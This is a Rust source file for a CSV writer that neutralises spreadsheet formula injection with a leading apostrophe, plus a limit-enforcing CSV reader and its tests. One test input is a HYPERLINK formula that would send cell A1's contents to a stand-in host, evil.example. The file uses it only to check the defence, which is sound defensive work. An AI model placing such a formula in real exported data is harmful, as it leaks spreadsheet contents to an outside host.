//! CSV both ways: cells that never run as formulas when we write them, and
//! reading field by field.

use super::{Limits, MAX_CELL_CHARS, ReadError, Rows, Table};

/// What makes a spreadsheet program read a cell as a formula when it
/// opens a CSV file (OWASP's list): `=SUM(…)`, `+`, `-`, `@`, a tab or a
/// carriage return first.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV cell as we write it: one that a spreadsheet program would run as
/// a formula gets a leading apostrophe, which it shows as text. So does one
/// that starts with an apostrophe already, so reading undoes exactly this.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_START) || text.starts_with('\'') {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// Undoes [`csv_cell`]: an apostrophe before a formula character or
/// another apostrophe goes; any other apostrophe is the text's own.
fn from_csv_cell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
        _ => text,
    }
}

/// A CSV file whose every cell goes through [`csv_cell`].
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl CsvWriter {
    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| csv_cell(c.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&cells)?;
        Ok(())
    }

    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
        Ok(self.inner.into_inner()?)
    }
}

/// The largest table an import takes.
pub(super) fn read(bytes: &[u8], limits: Limits) -> Result<Table, ReadError> {
    let text = std::str::from_utf8(bytes).map_err(|_| ReadError::NotUtf8)?;
    let mut input = text.trim_start_matches('\u{feff}').as_bytes();
    let mut reader = csv_core::Reader::new();
    let mut rows = Rows::new(limits);
    // A field longer than a cell may be is refused when the buffer fills.
    let mut field = vec![0u8; MAX_CELL_CHARS * 4];
    let mut filled = 0;
    let (mut row, mut column) = (0, 0);
    loop {
        let (result, read, written) = reader.read_field(input, &mut field[filled..]);
        input = &input[read..];
        filled += written;
        match result {
            csv_core::ReadFieldResult::InputEmpty => {}
            csv_core::ReadFieldResult::OutputFull => {
                return Err(ReadError::CellTooLong {
                    row: row + 1,
                    column: column + 1,
                });
            }
            csv_core::ReadFieldResult::Field { record_end } => {
                let value =
                    std::str::from_utf8(&field[..filled]).map_err(|_| ReadError::NotUtf8)?;
                rows.put(row, column, from_csv_cell(value).to_owned())?;
                filled = 0;
                if record_end {
                    row += 1;
                    column = 0;
                } else {
                    column += 1;
                }
            }
            csv_core::ReadFieldResult::End => break,
        }
    }
    Ok(rows.table)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spreadsheet::read as read_any;

    const LIMITS: Limits = Limits {
        rows: 100,
        columns: 10,
    };

    #[test]
    fn csv_rows_keep_their_numbers_and_stop_at_the_limits() {
        let table = read_any(b"\xef\xbb\xbfa,b\n\n\"x,y\",2\n,\n", &[], LIMITS).unwrap();
        assert_eq!(
            table,
            vec![
                vec!["a".to_owned(), "b".to_owned()],
                vec!["x,y".to_owned(), "2".to_owned()],
            ]
        );
        // Empty fields beyond the last column cost nothing; a value there is refused.
        let wide = format!("a{}\n", ",".repeat(1_000_000));
        assert_eq!(read_any(wide.as_bytes(), &[], LIMITS).unwrap().len(), 1);
        let far = format!("a{},z\n", ",".repeat(20));
        assert_eq!(
            read_any(far.as_bytes(), &[], LIMITS),
            Err(ReadError::TooLarge)
        );
        let long = "a\n".repeat(101);
        assert_eq!(
            read_any(long.as_bytes(), &[], LIMITS),
            Err(ReadError::TooLarge)
        );
        let huge = "x".repeat(MAX_CELL_CHARS * 4 + 1);
        assert_eq!(
            read_any(huge.as_bytes(), &[], LIMITS),
            Err(ReadError::CellTooLong { row: 1, column: 1 })
        );
        assert_eq!(read_any(b"\xff\xfe", &[], LIMITS), Err(ReadError::NotUtf8));
    }

    #[test]
    fn csv_cells_never_run_and_read_back_as_written() {
        let texts = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+1",
            "-5",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted",
            "'plain apostrophe",
            "''",
            "plain",
            "",
        ];
        let mut w = CsvWriter::default();
        w.row(texts).unwrap();
        let bytes = w.finish().unwrap();
        let written = String::from_utf8(bytes.clone()).unwrap();
        assert!(written.starts_with("\"'=HYPERLINK("), "{written}");
        assert!(written.contains(",'+1,'-5,'@SUM(A1),"), "{written}");
        let back = read_any(&bytes, &[], LIMITS).unwrap();
        let expected: Vec<&str> = texts[..texts.len() - 1].to_vec();
        assert_eq!(back[0], expected);
        // A person's own apostrophe before ordinary text is kept.
        assert_eq!(read_any(b"'hello", &[], LIMITS).unwrap()[0], vec!["'hello"]);
    }
}
